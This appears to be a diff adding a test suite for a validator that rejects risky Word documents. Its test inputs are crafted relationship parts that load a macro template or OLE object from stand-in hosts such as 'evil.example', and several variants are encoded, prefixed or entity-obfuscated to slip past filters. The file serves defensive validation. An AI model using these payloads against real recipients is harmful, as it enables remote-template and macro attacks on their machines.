@@ -1,0 +1,88 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { wordFile } from '#testing/pictures.ts'
+import { isDocx } from './docx.ts'
+
+let folder: string
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'cangdan-docx-'))
+})
+afterAll(() => rm(folder, { recursive: true }))
+
+let count = 0
+async function isTaken(parts: Parameters<typeof wordFile>[0]): Promise<boolean> {
+  const path = join(folder, `${(count += 1)}.docx`)
+  await writeFile(path, await wordFile(parts))
+  return isDocx(path)
+}
+
+const TRANSITIONAL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+const STRICT = 'http://purl.oclc.org/ooxml/officeDocument/relationships'
+const OUTSIDE = 'TargetMode="External"'
+const TEMPLATE = ['attachedTemplate', 'http://evil.example/t.dotm', OUTSIDE] as const
+
+const relation = (kind: string, target: string, mode = '', scheme = TRANSITIONAL) =>
+  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${scheme}/${kind}" Target="${target}" ${mode}/></Relationships>`
+
+const mainType = (type: string) =>
+  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`
+
+const SETTINGS = 'word/_rels/settings.xml.rels'
+
+describe('isDocx', () => {
+  it.each([
+    ['a template', relation(...TEMPLATE)],
+    ['a template, in the strict edition', relation(...TEMPLATE, STRICT)],
+    [
+      'a template, spelled with references',
+      relation('attached&#84;emplate', 'x', 'TargetMode="&#69;xternal"'),
+    ],
+    ['a template, in two bytes a letter', Buffer.from(`\ufeff${relation(...TEMPLATE)}`, 'utf16le')],
+    [
+      'a template, with a prefix',
+      relation(...TEMPLATE)
+        .replaceAll(/<(\/?)Rel/g, '<$1p:Rel')
+        .replace('xmlns=', 'xmlns:p='),
+    ],
+    [
+      'a template, behind a document type',
+      `<!DOCTYPE r [<!ENTITY e "External">]>${relation('image', 'x', 'TargetMode="&e;"')}`,
+    ],
+    ['a picture', relation('image', 'http://evil.example/p.png', OUTSIDE)],
+    ['an object', relation('oleObject', 'file://evil/o.xls', OUTSIDE)],
+  ])('refuses a document that loads %s from elsewhere', async (_what, text) => {
+    expect(await isTaken({ [SETTINGS]: text })).toBe(false)
+  })
+
+  it.each([TRANSITIONAL, STRICT])('refuses a chunk of another format (%s)', async (scheme) => {
+    const text = relation('aFChunk', 'chunk.mht', '', scheme)
+    expect(await isTaken({ 'word/_rels/document.xml.rels': text })).toBe(false)
+  })
+
+  it.each([
+    'application/vnd.ms-word.document.macroEnabled.main+xml',
+    'application/vnd.ms-word.template.macroEnabledTemplate.main+xml',
+    'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml',
+    'application/vnd.ms-word.document.macro&#69;nabled.main+xml',
+  ])('refuses a main part of the type %s', async (type) => {
+    expect(await isTaken({ '[Content_Types].xml': mainType(type) })).toBe(false)
+  })
+
+  it('refuses a second part by the name of the first', async () => {
+    const harmless = relation('theme', 'theme.xml')
+    expect(await isTaken({ [SETTINGS]: relation(...TEMPLATE), [SETTINGS.toUpperCase()]: harmless })).toBe(
+      false,
+    )
+  })
+
+  it('takes a document with links to click and a template of its own', async () => {
+    expect(
+      await isTaken({
+        'word/_rels/document.xml.rels': relation('hyperlink', 'https://cangdan.example/', OUTSIDE),
+        [SETTINGS]: relation('attachedTemplate', 'Normal.dotx'),
+      }),
+    ).toBe(true)
+  })
+})
